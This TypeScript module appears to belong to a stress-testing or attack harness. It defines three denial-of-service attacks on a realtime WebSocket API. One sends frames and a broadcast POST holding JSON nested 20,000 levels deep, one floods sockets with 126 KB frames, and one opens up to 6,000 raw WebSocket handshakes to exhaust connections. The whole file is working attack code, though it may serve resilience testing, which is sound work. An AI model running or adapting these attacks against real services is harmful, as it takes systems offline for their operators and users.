import { setTimeout as delay } from 'node:timers/promises'
import type { Attack } from '../attack.ts'
import { loops, openSocket, openUnread, send } from '../send.ts'

/** Frames that are deeply nested or large, and more sockets than anyone needs. */

const SOCKETS = 8
const PAUSE_MS = 100
const nested = (depth: number) => '['.repeat(depth) + ']'.repeat(depth)

const nestedFrames: Attack = {
  name: 'nested frames',
  run: (target) =>
    loops(target, SOCKETS, async (number) => {
      const pair = target.pairs[number % target.pairs.length]
      const topic = `realtime:chat:${pair?.chatId}`
      const token = pair?.seeker.token ?? ''
      const socket = await openSocket(target)
      if (!socket) return
      const config = { presence: { enabled: true } }
      socket.send(JSON.stringify(['1', '1', topic, 'phx_join', { config, access_token: token }]))
      await delay(PAUSE_MS)
      for (const frame of [
        `["1","2","${topic}","presence",{"event":"track","payload":{"a":${nested(20_000)}}}]`,
        `["1","3","${topic}","broadcast",{"event":"a","payload":${nested(20_000)}}]`,
        `["2","4","realtime:x","phx_join",{"config":{"postgres_changes":[{"x":${nested(5000)}}]}}]`,
      ]) {
        socket.send(frame)
      }
      const messages = [{ topic: `chat:${pair?.chatId}`, event: 'a', payload: 0 }]
      const body = JSON.stringify({ messages }).replace(':0}', `:${nested(20_000)}}`)
      await send(target, { method: 'POST', path: '/realtime/v1/api/broadcast', body, token }, SOCKETS)
      await delay(PAUSE_MS)
      socket.terminate()
    }),
}

const FRAME = 'x'.repeat(126_000)
const BUFFERED = 1_000_000

const largeFrames: Attack = {
  name: 'large frames',
  run: (target) =>
    loops(target, SOCKETS, async () => {
      const socket = await openSocket(target)
      while (socket?.readyState === socket?.OPEN && socket && !target.isOver()) {
        if (socket.bufferedAmount < BUFFERED) socket.send(FRAME)
        else await delay(1)
        if (socket.bufferedAmount === 0) await delay(0)
      }
      socket?.terminate()
    }),
}

/** Below the number of descriptors that one attacker process may open. */
const MANY = 6000
const OPENED_AT_ONCE = 50

const manySockets: Attack = {
  name: 'many sockets',
  run: async (target) => {
    const handshake =
      `GET /realtime/v1/websocket?vsn=2.0.0&apikey=${target.key} HTTP/1.1\r\nHost: localhost\r\n` +
      'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n' +
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'
    const open = new Set<Awaited<ReturnType<typeof openUnread>>>()
    await loops(target, OPENED_AT_ONCE, async () => {
      if (open.size >= MANY) return delay(PAUSE_MS)
      const socket = await openUnread(target, handshake)
      // Reads, so that a refusal or a close is noticed and the socket is opened again.
      socket.resume()
      target.count(socket.destroyed ? 'none' : 'socket')
      if (socket.destroyed) return delay(PAUSE_MS)
      open.add(socket)
      socket.once('close', () => open.delete(socket))
      return undefined
    })
    for (const socket of open) socket.destroy()
  },
}

export const frameAttacks = [nestedFrames, largeFrames, manySockets]
